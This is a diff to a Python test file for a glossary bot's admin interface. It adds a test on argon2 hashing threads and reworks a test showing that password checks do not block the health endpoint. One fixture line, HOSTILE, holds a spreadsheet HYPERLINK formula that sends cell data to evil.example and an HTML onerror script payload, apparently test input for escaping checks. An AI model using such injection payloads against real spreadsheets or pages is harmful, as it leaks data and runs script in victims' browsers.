@@ -17,9 +17,11 @@ from types import SimpleNamespace
 import httpx
 import pytest
 import yaml
+from argon2 import PasswordHasher
 from pydantic import SecretStr, ValidationError
 
 from bot.core import GlossaryBot
+from bot.passwords import CHECK_THREADS, hash_password
 from bot.records import AnswerRecord, Store
 from bot.reload import GlossaryWatcher
 from bot.settings import Settings
@@ -28,7 +30,7 @@ from tests.conftest import serving
 from tests.factories import user_entry
 from tests.test_cli import run_cli
 from ui.admin import reports
-from ui.admin.auth import AdminAuth, TooManyAttempts, hash_password
+from ui.admin.auth import AdminAuth, TooManyAttempts
 from ui.admin.upload import BACKUP_DIR, BACKUPS_KEPT, GlossaryUploads
 
 pytestmark = pytest.mark.model
@@ -38,6 +40,10 @@ UPLOAD_MB = 0.05
 TIMEOUT_S = 60
 #: How long the test waits for an upload to be served (a bound, not a timing claim).
 SERVED_DEADLINE_S = 60
+#: How long a held password check waits for the test's release, and the bound on /healthz meanwhile
+#: (bounds against a hang, not timing claims: the check is held until /healthz has answered).
+HELD_S = 60
+HEALTH_BOUND_S = 20
 QUOKKA = user_entry("quokka-loss", term="Quokka loss", term_en="Quokka loss", term_hi="क्वोका लॉस")
 WOMBAT = user_entry("wombat-rate", term="Wombat rate", term_en="Wombat rate", term_hi="वॉम्बैट रेट")
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"x") <img src=x onerror=alert(1)>'
@@ -182,6 +188,12 @@ def test_login_attempts_are_limited_and_sessions_expire(monkeypatch):
     assert auth.session(session.token) is None
 
 
+def test_a_made_hash_takes_one_core_to_check():
+    """argon2's default spreads a check over 4 threads, which took both cores of a small server."""
+    assert hash_password(PASSWORD).startswith(f"$argon2id$v=19$m=65536,t=3,p={CHECK_THREADS}$")
+    assert CHECK_THREADS == 1
+
+
 def test_the_login_is_rate_limited_over_http(area):
     url, _, _, _ = area
     with httpx.Client(base_url=url, timeout=TIMEOUT_S) as http:
@@ -190,34 +202,36 @@ def test_the_login_is_rate_limited_over_http(area):
         assert http.post("/admin/login", data={"password": PASSWORD}).status_code == 429
 
 
-def test_logins_do_not_hold_up_other_visitors(area):
-    """A password check takes most of a second of CPU; it ran on the event loop, so 4 wrong logins
-    sent together held /healthz for 2 s (4 ms alone). Now the longest /healthz while they run is
-    under the time of one login alone, measured first (each login from an address of its own)."""
+def test_a_password_check_does_not_hold_up_other_visitors(area, monkeypatch):
+    """A password check takes a fifth of a second of CPU; it ran on the event loop, so 4 wrong logins
+    sent together held /healthz for 2 s. Here the check is held open until the test lets it go: if it
+    ran on the loop, /healthz could not answer before the release, which comes only after it."""
     url, _, _, _ = area
+    entered, release = threading.Event(), threading.Event()
+    real = PasswordHasher.verify
 
-    def login(address: str) -> None:
+    def held(self: PasswordHasher, hash: str, password: str) -> bool:
+        entered.set()
+        release.wait(HELD_S)
+        return real(self, hash, password)
+
+    monkeypatch.setattr(PasswordHasher, "verify", held)
+    codes: list[int] = []
+
+    def login() -> None:
         with httpx.Client(base_url=url, timeout=TIMEOUT_S) as http:
-            forwarded = {"X-Forwarded-For": address}
-            reply = http.post("/admin/login", data={"password": "wrong"}, headers=forwarded)
-            assert reply.status_code == 401
+            forwarded = {"X-Forwarded-For": "10.2.0.1"}
+            codes.append(http.post("/admin/login", data={"password": "wrong"}, headers=forwarded).status_code)
 
-    start = time.perf_counter()
-    login("10.2.0.1")
-    one_login_s = time.perf_counter() - start
-    logins = [threading.Thread(target=login, args=(f"10.2.0.{n}",)) for n in range(2, 6)]
-    health: list[float] = []
-    with httpx.Client(base_url=url, timeout=TIMEOUT_S) as http:
-        for thread in logins:
-            thread.start()
-        while any(thread.is_alive() for thread in logins):
-            start = time.perf_counter()
-            assert http.get("/healthz").status_code == 200
-            health.append(time.perf_counter() - start)
-    for thread in logins:
+    thread = threading.Thread(target=login)
+    thread.start()
+    try:
+        assert entered.wait(TIMEOUT_S)
+        assert httpx.get(f"{url}/healthz", timeout=HEALTH_BOUND_S).status_code == 200
+    finally:
+        release.set()
         thread.join()
-    print(f"one login {one_login_s * 1000:.0f} ms; /healthz while 4 ran: max {max(health) * 1000:.0f} ms")
-    assert max(health) < one_login_s, (one_login_s, max(health))
+    assert codes == [401]
 
 
 def test_reports_are_made_one_at_a_time_and_not_twice(monkeypatch):
